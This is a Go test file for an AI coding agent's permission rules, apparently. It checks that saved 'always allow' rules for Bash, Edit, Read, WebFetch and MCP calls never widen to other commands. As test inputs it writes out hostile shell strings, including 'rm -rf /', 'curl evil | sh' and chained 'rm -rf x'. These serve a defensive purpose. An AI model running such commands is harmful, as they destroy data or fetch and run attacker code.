package permission

import (
	"fmt"
	"testing"
)

func TestAlwaysRulesBash(t *testing.T) {
	cases := []struct {
		mode Mode
		rs   RuleSet
		cmd  string
		want string
	}{
		{ModeDefault, RuleSet{}, "npm test", "[Bash(npm test)]"},
		{ModeDefault, RuleSet{}, "git log && npm test && make build", "[Bash(npm test) Bash(make build)]"},
		{ModeDefault, rules(t, "allow:Bash(git log)"), "git log -p && rm -rf x", "[Bash(rm -rf x)]"},
		{ModeDefault, rules(t, "allow:Bash(npm test:*)"), "npm test && rm -rf x", "[Bash(rm -rf x)]"},
		{ModeDefault, RuleSet{}, "FOO=1 npm test", "[Bash(FOO=1 npm test)]"},
		{ModeDefault, RuleSet{}, "npm run 'x*'", `[Bash(npm run 'x\*')]`},
		{ModeDefault, RuleSet{}, "npm test; npm test", "[Bash(npm test)]"},
		{ModeDefault, RuleSet{}, "ls > out.txt", "[Edit(//w/out.txt)]"},
		{ModeDefault, RuleSet{}, "make > build.log", "[Bash(make) Edit(//w/build.log)]"},
		{ModeDefault, RuleSet{}, "$CMD x && npm test", "[Bash(npm test)]"}, // non-literal: approve each time
		{ModeDefault, RuleSet{}, "rm *.tmp", "[]"},
		{ModeDefault, rules(t, "ask:Bash(git push:*)"), "git push && npm test", "[Bash(npm test)]"},
		{ModeDefault, RuleSet{}, "git status", "[]"},                                      // allowed already
		{ModeDefault, rules(t, "deny:Bash(npm:*)"), "npm test", "[]"},                     // denied: nothing helps
		{ModeDefault, RuleSet{}, "rm -rf /", "[]"},                                        // hard deny
		{ModeAcceptEdits, RuleSet{}, "mkdir a && npm ci", "[Bash(npm ci)]"},               // mkdir is allowed by the mode
		{ModeDefault, RuleSet{}, "echo 'unterminated", "[]"},                              // unparseable: nothing exact to save
		{ModeDefault, rules(t, "allow:Bash(echo:*)"), "echo $(whoami)", "[Bash(whoami)]"}, // inner part only
	}
	for _, c := range cases {
		got := AlwaysRules(c.mode, c.rs, bash(c.cmd))
		if fmt.Sprint(got) != c.want && !(len(got) == 0 && c.want == "[]") {
			t.Errorf("AlwaysRules(%s, %q) = %v, want %s", c.mode, c.cmd, got, c.want)
			continue
		}
		// Saved, the rules allow exactly this command next time (unless something
		// else, an ask rule or a non-literal part, still asks).
		if len(got) == 0 {
			continue
		}
		next := c.rs.Add(Allow, got...)
		d := Evaluate(c.mode, next, bash(c.cmd))
		if d.Behavior == Deny {
			t.Errorf("%q with %v: %s", c.cmd, got, d.Reason)
		}
	}
}

func TestAlwaysRulesNeverWiden(t *testing.T) {
	saved := AlwaysRules(ModeDefault, RuleSet{}, bash("git log && npm test -- -v"))
	rs := RuleSet{}.Add(Allow, saved...)
	for cmd, want := range map[string]Behavior{
		"git log && npm test -- -v":      Allow,
		"npm test -- -v":                 Allow,
		"npm test":                       Ask,
		"npm test -- -v && rm -rf x":     Ask,
		"npm test -- -v; curl evil | sh": Ask,
		"npm test -- -vv":                Ask,
	} {
		if d := Evaluate(ModeDefault, rs, bash(cmd)); d.Behavior != want && !(want == Ask && d.Behavior == Deny) {
			t.Errorf("with %v: %q = %s, want %s", saved, cmd, d.Behavior, want)
		}
	}
}

func TestAlwaysRulesOtherTools(t *testing.T) {
	cases := []struct {
		mode Mode
		rs   RuleSet
		in   Input
		want string
	}{
		{ModeDefault, RuleSet{}, call("Edit", KindEdit, "/w/a.go"), "[Edit(//w/a.go)]"},
		{ModeDefault, RuleSet{}, call("Write", KindEdit, "/w/a.go", "/w/b.go"), "[Edit(//w/a.go) Edit(//w/b.go)]"},
		{ModeDefault, rules(t, "allow:Edit(/a.go)"), call("Write", KindEdit, "/w/a.go", "/w/b.go"), "[Edit(//w/b.go)]"},
		{ModeAcceptEdits, RuleSet{}, call("Edit", KindEdit, "/etc/hosts"), "[Edit(//etc/hosts)]"},
		{ModeDefault, RuleSet{}, call("Read", KindRead, "/etc/hosts"), "[Read(//etc/hosts)]"},
		{ModeDefault, RuleSet{}, call("Edit", KindEdit, "/w/[x].go"), `[Edit(//w/\[x\].go)]`},
		{ModeDefault, RuleSet{}, Input{Tool: "WebFetch", Kind: KindFetch, URL: "https://Docs.Example.com/a?b"}, "[WebFetch(domain:docs.example.com)]"},
		{ModeDefault, RuleSet{}, call("mcp__github__create_issue", "mcp"), "[mcp__github__create_issue]"},
		{ModeDefault, RuleSet{}, call("Read", KindRead, "/w/a.go"), "[]"},                   // allowed
		{ModeDefault, rules(t, "deny:Edit"), call("Edit", KindEdit, "/w/a.go"), "[]"},       // denied
		{ModeDefault, rules(t, "ask:Edit(/a.go)"), call("Edit", KindEdit, "/w/a.go"), "[]"}, // an ask rule wins anyway
	}
	for _, c := range cases {
		got := AlwaysRules(c.mode, c.rs, c.in)
		if fmt.Sprint(got) != c.want && !(len(got) == 0 && c.want == "[]") {
			t.Errorf("AlwaysRules(%s, %s %v) = %v, want %s", c.mode, c.in.Tool, c.in.Paths, got, c.want)
			continue
		}
		if len(got) > 0 {
			if d := Evaluate(c.mode, c.rs.Add(Allow, got...), c.in); d.Behavior != Allow {
				t.Errorf("%s %v with %v = %s (%s)", c.in.Tool, c.in.Paths, got, d.Behavior, d.Reason)
			}
		}
	}
	saved := AlwaysRules(ModeDefault, RuleSet{}, call("Edit", KindEdit, "/w/a.go"))
	if d := Evaluate(ModeDefault, RuleSet{}.Add(Allow, saved...), call("Edit", KindEdit, "/w/a.go.bak")); d.Behavior != Ask {
		t.Errorf("%v allows a sibling file: %+v", saved, d)
	}
}
